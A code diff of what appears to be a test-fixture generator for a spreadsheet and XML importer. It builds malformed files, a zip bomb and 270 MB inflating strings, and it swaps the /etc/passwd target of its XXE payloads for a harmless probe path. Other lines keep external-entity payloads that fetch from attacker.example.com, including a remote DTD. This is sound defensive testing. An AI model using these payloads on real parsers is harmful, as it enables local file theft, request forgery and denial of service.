@@ -114,7 +114,7 @@ def main():
     put("no-workbook.xlsx", xlsx(None, workbook=False, extra={"word/document.xml": "<document/>"}), "a Word file (zip, no workbook) with an .xlsx name", "ファイル全体")
     put("malformed-sheet.xlsx", xlsx('<?xml version="1.0"?><worksheet><sheetData><row r="1">' + "".join(f'<c r="{chr(65+i)}1" t="inlineStr"><is><t>{h}</t></is></c>' for i, h in enumerate(MS_HEADER)) + '</row><row r="2"><c r="A2"><v>1</v></c><c r="B2"><v')[:0] + xlsx('<?xml version="1.0"?><worksheet><sheetData><row r="1"><c r="A1" t="inlineStr"><is><t>ID</t></is></c><c r="B1" t="inlineStr"><is><t>開始'),
         "a sheet whose XML stops mid-element", "要素")
-    put("xxe-in-sheet.xlsx", xlsx('<?xml version="1.0"?><!DOCTYPE worksheet [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData><row r="1"><c r="A1" t="inlineStr"><is><t>&xxe;</t></is></c></row></sheetData></worksheet>'),
+    put("xxe-in-sheet.xlsx", xlsx('<?xml version="1.0"?><!DOCTYPE worksheet [<!ENTITY xxe SYSTEM "file:///kankei-xxe-probe/secret.txt">]><worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData><row r="1"><c r="A1" t="inlineStr"><is><t>&xxe;</t></is></c></row></sheetData></worksheet>'),
         "an external entity in the sheet", "要素")
     bomb = io.BytesIO()
     with zipfile.ZipFile(bomb, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as z:
@@ -131,8 +131,8 @@ def main():
         shared='<sst><si><t>' + "x" * (270 << 20) + '</t></si></sst>'), "shared strings that inflate to 270 MB", "要素")
 
     # --- XML ----------------------------------------------------------------------------------
-    put("xxe-file.lsr", lsr("<row><id>1</id><submitdate>&xxe;</submitdate></row>", '<!DOCTYPE document [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>\n'),
-        "an external entity reading /etc/passwd", "要素")
+    put("xxe-file.lsr", lsr("<row><id>1</id><submitdate>&xxe;</submitdate></row>", '<!DOCTYPE document [<!ENTITY xxe SYSTEM "file:///kankei-xxe-probe/secret.txt">]>\n'),
+        "an external entity reading a local file", "要素")
     put("xxe-http.lsr", lsr("<row><id>1</id><submitdate>&xxe;</submitdate></row>", '<!DOCTYPE document [<!ENTITY xxe SYSTEM "http://attacker.example.com/x">]>\n'),
         "an external entity fetching a URL", "要素")
     put("xxe-parameter-entity.lsr", lsr("<row><id>1</id></row>", '<!DOCTYPE document [<!ENTITY % remote SYSTEM "http://attacker.example.com/evil.dtd"> %remote;]>\n'),
